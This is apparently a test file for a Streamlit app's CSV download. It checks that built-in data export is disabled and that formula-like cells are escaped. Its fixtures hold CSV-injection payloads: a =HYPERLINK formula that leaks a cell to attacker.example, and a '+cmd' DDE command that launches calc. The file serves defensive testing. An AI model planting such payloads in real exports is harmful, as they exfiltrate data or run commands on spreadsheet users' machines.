"""Issue 26: a table shown in the app leaves it only through the escaping CSV writer. Streamlit's own download on
st.dataframe wrote a paper's `=HYPERLINK(…)` title into the file as it was; the spreadsheet that opened it ran it."""
import csv
import io
import tomllib

import pandas as pd
from streamlit import config as streamlit_config

from core.text.tables import frame_csv
from tests.paths import REPO

HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for the PDF")'


def test_streamlit_table_download_and_copy_are_off_in_the_app_config():
    settings = tomllib.loads((REPO / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert "client.disableDataExport" in streamlit_config._config_options_template  # the option Streamlit reads
    assert settings["client"]["disableDataExport"] is True


def test_table_download_writes_formula_cells_and_column_names_as_text():
    frame = pd.DataFrame([{"title": HOSTILE_TITLE, "pages": 12, "score": "-0.5", "note": "@SUM(A1:A9)"},
                          {"title": "+cmd|' /C calc'!A0", "pages": 3, "score": "+2e3", "note": "plain"}])
    frame = frame.rename(columns={"note": "=note"})

    rows = list(csv.reader(io.StringIO(frame_csv(frame))))

    assert rows[0] == ["title", "pages", "score", "'=note"]
    assert rows[1] == ["'" + HOSTILE_TITLE, "12", "-0.5", "'@SUM(A1:A9)"]  # numbers stay numbers
    assert rows[2] == ["'+cmd|' /C calc'!A0", "3", "+2e3", "plain"]
